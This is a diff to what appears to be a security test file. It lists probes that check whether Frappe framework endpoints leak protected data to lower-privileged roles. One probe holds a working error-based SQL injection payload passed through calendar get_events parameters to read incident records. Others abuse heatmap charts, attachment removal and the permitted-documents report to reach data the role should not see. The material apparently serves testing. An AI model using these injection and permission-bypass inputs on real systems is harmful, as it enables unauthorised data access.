@@ -182,7 +182,7 @@ LEAKS = [
 	Probe(
 		"11 a heat map asks nobody",
 		"foreign_officer",
-		("traces by known ways",),
+		("names are plain", "traces by known ways"),
 		lambda c, a: method("frappe.desk.doctype.dashboard_chart.dashboard_chart.get", chart={"document_type": "Comment", "type": "Heatmap", "chart_type": "Count", "based_on": "creation", "name": "x", "filters_json": json.dumps(like(c, "Comment", "content"))}, no_cache="1"),
 		lambda c: '"dataPoints":{"',
 	),
@@ -229,7 +229,7 @@ LEAKS = [
 	Probe(
 		"a query in two pieces, by a calendar",
 		"auditor",
-		("no query in a name",),
+		("names are plain", "no query in a name"),
 		lambda c, a: method("frappe.desk.calendar.get_events", doctype="User", start="2020-01-01", fields=["name"], field_map={"start": "extractvalue(1,concat(0x7e,(select what_happened/*", "end": "creation"}, end=f"*/from tabIncident where name={in_hex(name(c))}))),1)#"),
 	),
 	Probe(
@@ -332,13 +332,13 @@ LEAKS = [
 		"manager",
 		("names are plain",),
 		lambda c, a: ask("detach", "/api/method/frappe.desk.form.utils.remove_attach", "POST", body={"fid": [{"file_name": ["like", f"%{c.canary}%"]}]}),
-		lambda c: "ProgrammingError",
+		lambda c: "TypeError",
 	),
 	Probe(
 		"the framework's report lists as somebody else",
 		"site_administrator",
 		(DOOR,),
-		lambda c, a: method("frappe.desk.query_report.run", report_name="Permitted Documents For User", filters={"user": a.people["officer"].user, "doctype": "Scheduled Job Type"}),
+		lambda c, a: method("frappe.desk.query_report.run", report_name="Permitted Documents For User", filters={"user": a.people["officer"].user, "doctype": "User"}),
 		lambda c: '"result":[',
 	),
 	Probe(
